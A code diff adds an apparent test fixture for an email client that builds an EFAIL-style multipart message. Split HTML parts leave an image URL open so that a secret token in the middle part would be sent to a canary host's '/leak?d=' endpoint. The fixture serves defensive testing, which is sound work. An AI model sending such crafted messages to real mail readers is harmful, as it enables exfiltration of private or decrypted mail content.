@@ -139,3 +139,42 @@ export function attachmentMessage(bytes: Buffer): string {
     '',
   ].join('\r\n');
 }
+
+/** Text that only the middle part of the EFAIL message holds. */
+export const EFAIL_SECRET = 'SECRETTOKEN4711';
+
+/**
+ * The EFAIL trick: HTML part 1 opens an image URL that a joined document would close only after part
+ * 2 (the secret) with part 3. Part 1 also holds an honest remote image, so the reader offers to load
+ * remote content. A plain part and an attached HTML page follow: both must be shown for what they are.
+ */
+export function efailMessage(canary: string): string {
+  const boundary = 'efail-boundary';
+  return [
+    headers('Secret parts', `Mallory <mallory@${TEST_DOMAIN}>`, [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
+    '',
+    `--${boundary}`,
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    `<p>Part one.</p><img alt="honest" src="${canary}/honest.png"><img src="${canary}/leak?d=`,
+    `--${boundary}`,
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    `<p>${EFAIL_SECRET} in part two</p>`,
+    `--${boundary}`,
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '">Part three.',
+    `--${boundary}`,
+    'Content-Type: text/plain; charset=utf-8',
+    '',
+    'Plain part four.',
+    `--${boundary}`,
+    'Content-Type: text/html; charset=utf-8',
+    'Content-Disposition: attachment; filename="page.html"',
+    '',
+    '<p>Attached page, not the body.</p>',
+    `--${boundary}--`,
+    '',
+  ].join('\r\n');
+}
